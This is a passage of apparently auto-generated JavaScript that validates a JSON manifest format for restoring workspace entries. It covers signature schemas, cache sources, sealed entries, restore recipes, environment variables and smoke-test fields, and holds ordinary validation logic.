public_key).","type":"string","pattern":"^[0-9a-f]{64}$"},"public_key":{"type":"string","minLength":3456,"maxLength":3460,"pattern":"^[A-Za-z0-9+/]+={0,2}$"},"sig":{"type":"string","minLength":6168,"maxLength":6172,"pattern":"^[A-Za-z0-9+/]+={0,2}$"}}},"cacheSource":{"type":"object","additionalProperties":false,"required":["cache"],"properties":{"cache":{"type":"object","additionalProperties":false,"required":["key"],"properties":{"key":{"type":"string","minLength":1,"maxLength":512},"restore-keys":{"type":"array","maxItems":16,"items":{"type":"string","minLength":1,"maxLength":512}}}}}},"sealedEntry":{"type":"object","additionalProperties":false,"required":["id","kind","path","tier","needs","key"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"$ref":"#/$defs/common/properties/tier"},"needs":{"$ref":"#/$defs/common/properties/needs"},"key":{"description":"Key template: literal text ([A-Za-z0-9._+-]) and {os}, {arch}, {libc}, {node} (Node's major version) and {hash:PATH[,PATH...]} (sha256 of workspace files, e.g. the lockfile). A seal is kept per expanded key.","type":"string","minLength":1,"maxLength":512},"ignore":{"$ref":"#/$defs/treeEntry/properties/ignore"},"restore":{"$ref":"#/$defs/common/properties/restore"},"timeout_s":{"$ref":"#/$defs/common/properties/timeout_s"},"env":{"$ref":"#/$defs/common/properties/env"},"secret_env":{"$ref":"#/$defs/common/properties/secret_env"},"smoke":{"$ref":"#/$defs/common/properties/smoke"},"smoke_timeout_s":{"$ref":"#/$defs/common/properties/smoke_timeout_s"},"note":{"$ref":"#/$defs/common/properties/note"}}}}};const schema74 = {"type":"object","additionalProperties":false,"required":["alg","keyid","sig"],"properties":{"alg":{"const":"hmac-sha256"},"keyid":{"type":"string","pattern":"^[0-9a-f]{16}$"},"sig":{"type":"string","pattern":"^[0-9a-f]{64}$"}}};const schema75 = {"type":"object","additionalProperties":false,"required":["alg","keyid","public_key","sig"],"properties":{"alg":{"const":"ml-dsa-87"},"keyid":{"description":"Fingerprint hint for people; never trusted (the fingerprint is recomputed from public_key).","type":"string","pattern":"^[0-9a-f]{64}$"},"public_key":{"type":"string","minLength":3456,"maxLength":3460,"pattern":"^[A-Za-z0-9+/]+={0,2}$"},"sig":{"type":"string","minLength":6168,"maxLength":6172,"pattern":"^[A-Za-z0-9+/]+={0,2}$"}}};const manifest_validator_schema32 = {"type":"object","additionalProperties":false,"required":["schema","version","workspace","created","entries"],"properties":{"schema":{"const":3},"version":{"description":"Raised on every re-sign; a run may refuse versions below a floor.","type":"integer","minimum":1,"maximum":9007199254740991},"workspace":{"description":"The described directory: relative to the manifest file's directory, or absolute.","type":"string","minLength":1,"maxLength":4096},"created":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"expires":{"type":"string","pattern":"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},"scope":{"description":"Where this manifest may run: compared with the run (in CI: GITHUB_REPOSITORY, GITHUB_REF) before any recipe runs.","type":"object","additionalProperties":false,"minProperties":1,"properties":{"repository":{"type":"string","pattern":"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"},"ref":{"description":"Glob over the full ref, e.g. refs/heads/main or refs/heads/release/**.","type":"string","minLength":1,"maxLength":256},"manifest_path":{"description":"The manifest's path relative to the workspace, e.g. .swr/manifest.json.","type":"string","minLength":1,"maxLength":4096}}},"shell":{"description":"The shell that runs recipes and smoke commands, as argv before the command (default [\"bash\", \"-c\"]).","type":"array","minItems":1,"maxItems":8,"items":{"type":"string","minLength":1,"maxLength":256}},"entries":{"type":"array","maxItems":10000,"items":{"$ref":"#/$defs/entry"}},"sealed":{"description":"Entries whose expected state is sealed, not committed: recorded where the path is built (by swr doctor after the recipe and smoke command pass, or swr add --sealed), kept in the state directory under the key the template expands to, and checked against that seal. For what the lockfile and the platform decide (node_modules, virtualenvs).","type":"array","maxItems":256,"items":{"$ref":"#/$defs/sealedEntry"}}}};const func2 = Object.prototype.hasOwnProperty;const pattern4 = new RegExp("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$", "u");const pattern6 = new RegExp("^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$", "u");const schema33 = {"type":"object","required":["kind"],"properties":{"kind":{"enum":["file","blob","tree","link"]}},"allOf":[{"if":{"properties":{"kind":{"const":"file"}}},"then":{"$ref":"#/$defs/fileEntry"}},{"if":{"properties":{"kind":{"const":"blob"}}},"then":{"$ref":"#/$defs/blobEntry"}},{"if":{"properties":{"kind":{"const":"tree"}}},"then":{"$ref":"#/$defs/treeEntry"}},{"if":{"properties":{"kind":{"const":"link"}}},"then":{"$ref":"#/$defs/linkEntry"}}]};const schema34 = {"$ref":"#/$defs/common","unevaluatedProperties":false,"properties":{"kind":{"const":"file"},"expect":{"type":"object","additionalProperties":false,"required":["size","sha256","mode"],"properties":{"size":{"$ref":"#/$defs/size"},"sha256":{"$ref":"#/$defs/sha256"},"mode":{"$ref":"#/$defs/mode"}}},"escrow":{"description":"The file's bytes, deflated and base64-encoded, checked against expect.sha256 when captured and restored.","type":"object","additionalProperties":false,"required":["encoding","data"],"properties":{"encoding":{"const":"deflate-base64"},"data":{"type":"string","maxLength":1048576,"pattern":"^[A-Za-z0-9+/]*={0,2}$"}}}}};const schema40 = {"type":"integer","minimum":0,"maximum":9007199254740991};const manifest_validator_schema41 = {"type":"string","pattern":"^[0-9a-f]{64}$"};const manifest_validator_schema42 = {"description":"Permission bits in octal, four digits, e.g. \"0755\".","type":"string","pattern":"^[0-7]{4}$"};const manifest_validator_schema35 = {"type":"object","required":["id","kind","path","tier","needs","expect"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree","link"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"description":"Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs.","type":"integer","minimum":0,"maximum":4},"needs":{"type":"array","maxItems":256,"uniqueItems":true,"items":{"$ref":"#/$defs/id"}},"restore":{"description":"How to recreate the entry: a shell recipe, or restore sources tried in order (recipes, and Actions caches) until the entry verifies.","oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"type":"array","minItems":1,"maxItems":8,"items":{"oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"$ref":"#/$defs/cacheSource"}]}}]},"timeout_s":{"type":"integer","minimum":1,"maximum":86400},"env":{"description":"Names of variables passed from the caller's environment to the recipe (besides PATH, HOME, LANG, TMPDIR).","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"secret_env":{"description":"Like env, and their values are scrubbed from recipe output and reports.","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}},"smoke":{"type":"string","minLength":1,"maxLength":65536},"smoke_timeout_s":{"description":"Seconds the smoke command may run (default 60).","type":"integer","minimum":1,"maximum":86400},"note":{"type":"string","maxLength":4096},"expect":{"type":"object"}}};const manifest_validator_schema36 = {"type":"string","pattern":"^[A-Za-z0-9._-]{1,128}$"};const manifest_validator_schema37 = {"type":"string","minLength":1,"maxLength":4096};const manifest_validator_schema39 = {"type":"object","additionalProperties":false,"required":["cache"],"properties":{"cache":{"type":"object","additionalProperties":false,"required":["key"],"properties":{"key":{"type":"string","minLength":1,"maxLength":512},"restore-keys":{"type":"array","maxItems":16,"items":{"type":"string","minLength":1,"maxLength":512}}}}}};const manifest_validator_pattern7 = new RegExp("^[A-Za-z0-9._-]{1,128}$", "u");const manifest_validator_pattern9 = new RegExp("^[A-Za-z_][A-Za-z0-9_]{0,127}$", "u");function validate24(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate24.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.id === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "id"},message:"must have required property '"+"id"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.path === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "path"},message:"must have required property '"+"path"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data.tier === undefined){const err3 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "tier"},message:"must have required property '"+"tier"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.needs === undefined){const err4 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "needs"},message:"must have required property '"+"needs"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if(data.expect === undefined){const err5 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "expect"},message:"must have required property '"+"expect"+"'"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(data.id !== undefined){let data0 = data.id;if(typeof data0 === "string"){if(!manifest_validator_pattern7.test(data0)){const err6 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}else {const err7 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}if(data.kind !== undefined){let data1 = data.kind;if(!((((data1 === "file") || (data1 === "blob")) || (data1 === "tree")) || (data1 === "link"))){const err8 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: manifest_validator_schema35.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data.path !== undefined){let data2 = data.path;if(typeof data2 === "string"){if(manifest_validator_func1(data2) > 4096){const err9 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}if(manifest_validator_func1(data2) < 1){const err10 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}}else {const err11 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data.tier !== undefined){let data3 = data.tier;if(!(((typeof data3 == "number") && (!(data3 % 1) && !isNaN(data3))) && (isFinite(data3)))){const err12 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if((typeof data3 == "number") && (isFinite(data3))){if(data3 > 4 || isNaN(data3)){const err13 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/maximum",keyword:"maximum",params:{comparison: "<=", limit: 4},message:"must be <= 4"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if(data3 < 0 || isNaN(data3)){const err14 = {instancePath:instancePath+"/tier",schemaPath:"#/properties/tier/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}}if(data.needs !== undefined){let data4 = data.needs;if(Array.isArray(data4)){if(data4.length > 256){const err15 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}const len0 = data4.length;for(let i0=0; i0<len0; i0++){let data5 = data4[i0];if(typeof data5 === "string"){if(!manifest_validator_pattern7.test(data5)){const err16 = {instancePath:instancePath+"/needs/" + i0,schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}else {const err17 = {instancePath:instancePath+"/needs/" + i0,schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}}let i1 = data4.length;let j0;if(i1 > 1){outer0:for(;i1--;){for(j0 = i1; j0--;){if(manifest_validator_func0(data4[i1], data4[j0])){const err18 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;break outer0;}}}}}else {const err19 = {instancePath:instancePath+"/needs",schemaPath:"#/properties/needs/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}if(data.restore !== undefined){let data6 = data.restore;const _errs16 = errors;let valid7 = false;let passing0 = null;const _errs17 = errors;if(typeof data6 === "string"){if(manifest_validator_func1(data6) > 65536){const err20 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if(manifest_validator_func1(data6) < 1){const err21 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}else {const err22 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}var _valid0 = _errs17 === errors;if(_valid0){valid7 = true;passing0 = 0;}const _errs19 = errors;if(Array.isArray(data6)){if(data6.length > 8){const err23 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/maxItems",keyword:"maxItems",params:{limit: 8},message:"must NOT have more than 8 items"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}if(data6.length < 1){const err24 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}const len1 = data6.length;for(let i2=0; i2<len1; i2++){let data7 = data6[i2];const _errs22 = errors;let valid10 = false;let passing1 = null;const _errs23 = errors;if(typeof data7 === "string"){if(manifest_validator_func1(data7) > 65536){const err25 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}if(manifest_validator_func1(data7) < 1){const err26 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}else {const err27 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}var _valid1 = _errs23 === errors;if(_valid1){valid10 = true;passing1 = 0;}const _errs25 = errors;if(data7 && typeof data7 == "object" && !Array.isArray(data7)){if(data7.cache === undefined){const err28 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/required",keyword:"required",params:{missingProperty: "cache"},message:"must have required property '"+"cache"+"'"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}for(const key0 in data7){if(!(key0 === "cache")){const err29 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data7.cache !== undefined){let data8 = data7.cache;if(data8 && typeof data8 == "object" && !Array.isArray(data8)){if(data8.key === undefined){const err30 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/required",keyword:"required",params:{missingProperty: "key"},message:"must have required property '"+"key"+"'"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}for(const key1 in data8){if(!((key1 === "key") || (key1 === "restore-keys"))){const err31 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}if(data8.key !== undefined){let data9 = data8.key;if(typeof data9 === "string"){if(manifest_validator_func1(data9) > 512){const err32 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}if(manifest_validator_func1(data9) < 1){const err33 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}else {const err34 = {instancePath:instancePath+"/restore/" + i2+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}}if(data8["restore-keys"] !== undefined){let data10 = data8["restore-keys"];if(Array.isArray(data10)){if(data10.length > 16){const err35 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}const len2 = data10.length;for(let i3=0; i3<len2; i3++){let data11 = data10[i3];if(typeof data11 === "string"){if(manifest_validator_func1(data11) > 512){const err36 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}if(manifest_validator_func1(data11) < 1){const err37 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}else {const err38 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys/" + i3,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}}else {const err39 = {instancePath:instancePath+"/restore/" + i2+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}}}else {const err40 = {instancePath:instancePath+"/restore/" + i2+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err40];}else {vErrors.push(err40);}errors++;}}}else {const err41 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/$defs/cacheSource/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err41];}else {vErrors.push(err41);}errors++;}var _valid1 = _errs25 === errors;if(_valid1 && valid10){valid10 = false;passing1 = [passing1, 1];}else {if(_valid1){valid10 = true;passing1 = 1;}}if(!valid10){const err42 = {instancePath:instancePath+"/restore/" + i2,schemaPath:"#/properties/restore/oneOf/1/items/oneOf",keyword:"oneOf",params:{passingSchemas: passing1},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err42];}else {vErrors.push(err42);}errors++;}else {errors = _errs22;if(vErrors !== null){if(_errs22){vErrors.length = _errs22;}else {vErrors = null;}}}}}else {const err43 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf/1/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err43];}else {vErrors.push(err43);}errors++;}var _valid0 = _errs19 === errors;if(_valid0 && valid7){valid7 = false;passing0 = [passing0, 1];}else {if(_valid0){valid7 = true;passing0 = 1;}}if(!valid7){const err44 = {instancePath:instancePath+"/restore",schemaPath:"#/properties/restore/oneOf",keyword:"oneOf",params:{passingSchemas: passing0},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err44];}else {vErrors.push(err44);}errors++;}else {errors = _errs16;if(vErrors !== null){if(_errs16){vErrors.length = _errs16;}else {vErrors = null;}}}}if(data.timeout_s !== undefined){let data12 = data.timeout_s;if(!(((typeof data12 == "number") && (!(data12 % 1) && !isNaN(data12))) && (isFinite(data12)))){const err45 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err45];}else {vErrors.push(err45);}errors++;}if((typeof data12 == "number") && (isFinite(data12))){if(data12 > 86400 || isNaN(data12)){const err46 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err46];}else {vErrors.push(err46);}errors++;}if(data12 < 1 || isNaN(data12)){const err47 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/properties/timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err47];}else {vErrors.push(err47);}errors++;}}}if(data.env !== undefined){let data13 = data.env;if(Array.isArray(data13)){if(data13.length > 64){const err48 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err48];}else {vErrors.push(err48);}errors++;}const len3 = data13.length;for(let i4=0; i4<len3; i4++){let data14 = data13[i4];if(typeof data14 === "string"){if(!manifest_validator_pattern9.test(data14)){const err49 = {instancePath:instancePath+"/env/" + i4,schemaPath:"#/properties/env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err49];}else {vErrors.push(err49);}errors++;}}else {const err50 = {instancePath:instancePath+"/env/" + i4,schemaPath:"#/properties/env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err50];}else {vErrors.push(err50);}errors++;}}let i5 = data13.length;let j1;if(i5 > 1){const indices0 = {};for(;i5--;){let item0 = data13[i5];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j1 = indices0[item0];const err51 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/uniqueItems",keyword:"uniqueItems",params:{i: i5, j: j1},message:"must NOT have duplicate items (items ## "+j1+" and "+i5+" are identical)"};if(vErrors === null){vErrors = [err51];}else {vErrors.push(err51);}errors++;break;}indices0[item0] = i5;}}}else {const err52 = {instancePath:instancePath+"/env",schemaPath:"#/properties/env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err52];}else {vErrors.push(err52);}errors++;}}if(data.secret_env !== undefined){let data15 = data.secret_env;if(Array.isArray(data15)){if(data15.length > 64){const err53 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/maxItems",keyword:"maxItems",params:{limit: 64},message:"must NOT have more than 64 items"};if(vErrors === null){vErrors = [err53];}else {vErrors.push(err53);}errors++;}const len4 = data15.length;for(let i6=0; i6<len4; i6++){let data16 = data15[i6];if(typeof data16 === "string"){if(!manifest_validator_pattern9.test(data16)){const err54 = {instancePath:instancePath+"/secret_env/" + i6,schemaPath:"#/properties/secret_env/items/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z_][A-Za-z0-9_]{0,127}$"},message:"must match pattern \""+"^[A-Za-z_][A-Za-z0-9_]{0,127}$"+"\""};if(vErrors === null){vErrors = [err54];}else {vErrors.push(err54);}errors++;}}else {const err55 = {instancePath:instancePath+"/secret_env/" + i6,schemaPath:"#/properties/secret_env/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err55];}else {vErrors.push(err55);}errors++;}}let i7 = data15.length;let j2;if(i7 > 1){const indices1 = {};for(;i7--;){let item1 = data15[i7];if(typeof item1 !== "string"){continue;}if(typeof indices1[item1] == "number"){j2 = indices1[item1];const err56 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/uniqueItems",keyword:"uniqueItems",params:{i: i7, j: j2},message:"must NOT have duplicate items (items ## "+j2+" and "+i7+" are identical)"};if(vErrors === null){vErrors = [err56];}else {vErrors.push(err56);}errors++;break;}indices1[item1] = i7;}}}else {const err57 = {instancePath:instancePath+"/secret_env",schemaPath:"#/properties/secret_env/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err57];}else {vErrors.push(err57);}errors++;}}if(data.smoke !== undefined){let data17 = data.smoke;if(typeof data17 === "string"){if(manifest_validator_func1(data17) > 65536){const err58 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err58];}else {vErrors.push(err58);}errors++;}if(manifest_validator_func1(data17) < 1){const err59 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err59];}else {vErrors.push(err59);}errors++;}}else {const err60 = {instancePath:instancePath+"/smoke",schemaPath:"#/properties/smoke/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err60];}else {vErrors.push(err60);}errors++;}}if(data.smoke_timeout_s !== undefined){let data18 = data.smoke_timeout_s;if(!(((typeof data18 == "number") && (!(data18 % 1) && !isNaN(data18))) && (isFinite(data18)))){const err61 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/properties/smoke_timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err61];}else {vErrors.push(err61);}errors++;}if((typeof data18 == "number") && (isFinite(data18))){if(data18 > 86400 || isNaN(data18)){const err62 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/properties/smoke_timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err62];}else {vErrors.push(err62);}errors++;}if(data18 < 1 || isNaN(data18)){const err63 = {instancePath:instancePath+"/smoke_timeout_s",schemaPath:"#/properties/smoke_timeout_s/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err63];}else {vErrors.push(err63);}errors++;}}}if(data.note !== undefined){let data19 = data.note;if(typeof data19 === "string"){if(manifest_validator_func1(data19) > 4096){const err64 = {instancePath:instancePath+"/note",schemaPath:"#/properties/note/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err64];}else {vErrors.push(err64);}errors++;}}else {const err65 = {instancePath:instancePath+"/note",schemaPath:"#/properties/note/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err65];}else {vErrors.push(err65);}errors++;}}if(data.expect !== undefined){let data20 = data.expect;if(!(data20 && typeof data20 == "object" && !Array.isArray(data20))){const err66 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err66];}else {vErrors.push(err66);}errors++;}}}else {const err67 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err67];}else 